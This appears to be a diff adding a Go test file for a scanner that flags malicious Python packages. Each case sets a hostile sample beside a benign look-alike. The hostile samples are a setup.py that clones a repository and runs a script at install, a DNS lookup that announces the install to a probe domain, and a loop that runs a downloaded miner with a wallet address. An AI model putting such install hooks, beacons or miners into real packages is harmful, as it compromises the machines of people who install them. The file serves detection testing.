@@ -1,0 +1,47 @@
+package analyze
+
+import "testing"
+
+// Second stages kept in repositories, proofs of code execution, install
+// announcements by DNS and miners paid by address (issue 18, classes 2
+// and 7), each next to its nearest legitimate look-alike.
+func TestStagesAndProbes(t *testing.T) {
+	xmr := "4" + "8" + "AbCdEfGhJkLmNpQrStUvWxYz123456789abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ1234567"
+	tests := []struct {
+		name  string
+		files map[string]string
+		rule  string // "" when no finding of any rule is wanted at High or more
+		want  Verdict
+	}{
+		{"repository cloned and a script in it run at install", map[string]string{"setup.py": "" +
+			"import os, subprocess, git\nfrom setuptools import setup\n" +
+			"def fetch():\n    git.Repo.clone_from('https://example.invalid/u/updater.git', 'C:/Users/repo')\n    os.chdir('C:/Users/repo')\n    subprocess.run(['python', 'bypass.py'])\n" +
+			"setup(name='p')\nif __name__ == '__main__':\n    fetch()\n"}, "download-execute", Malicious},
+		{"a dependency cloned and installed at install", map[string]string{"setup.py": "" +
+			"import subprocess\nfrom setuptools import setup\n" +
+			"subprocess.check_call(['git', 'clone', 'https://example.invalid/u/dep.git', 'build/dep'])\nsubprocess.check_call(['python', 'setup.py', 'install'], cwd='build/dep')\nsetup(name='p')\n"}, "", Clean},
+		{"notepad opened on import", map[string]string{"p/__init__.py": "import subprocess\nsubprocess.Popen(['notepad'])\n"}, "suspicious-command", Malicious},
+		{"an editor opened by a command of the tool", map[string]string{"p/cli.py": "" +
+			"import subprocess\ndef edit_config(path):\n    subprocess.call(['notepad', path])\n"}, "", Clean},
+		{"own name resolved under another domain on import", map[string]string{"pkg_probe/__init__.py": "" +
+			"import socket\ntry:\n    socket.gethostbyname('pkg_probe.dnscheck.example')\nexcept OSError:\n    pass\n"}, "exfil-channel", Malicious},
+		{"own service's host resolved on import", map[string]string{"pkg_probe/__init__.py": "" +
+			"import socket\nAPI = socket.gethostbyname('api.pkg-probe.example')\n"}, "", Clean},
+		{"downloaded program run with a miner's wallet", map[string]string{"p/proc.py": "" +
+			"import subprocess\ndef processing():\n    wallet = 'dero1qy25yfyzw00d5t0mt8pvtd9t4p7zp8x3zl06pwkhaj4zkuqhnmnv2qgakr6u7'\n" +
+			"    subprocess.Popen(['bash', '-c', 'while true; do /tmp/w -r pool.example:80 -w ' + wallet + '; sleep 5; done'])\n"}, "crypto-miner", Malicious},
+		{"a wallet library with an example address", map[string]string{"p/address.py": "" +
+			"EXAMPLE = '" + xmr + "'\ndef valid(addr):\n    return len(addr) == 95 and addr[0] in '48'\n"}, "", Clean},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := sdist(t, tt.files)
+			if r.Verdict != tt.want {
+				t.Errorf("verdict %s, want %s; findings:\n%s", r.Verdict, tt.want, findingLines(r))
+			}
+			if tt.rule != "" && !hasRule(r, tt.rule, Critical) {
+				t.Errorf("no critical %s finding:\n%s", tt.rule, findingLines(r))
+			}
+		})
+	}
+}
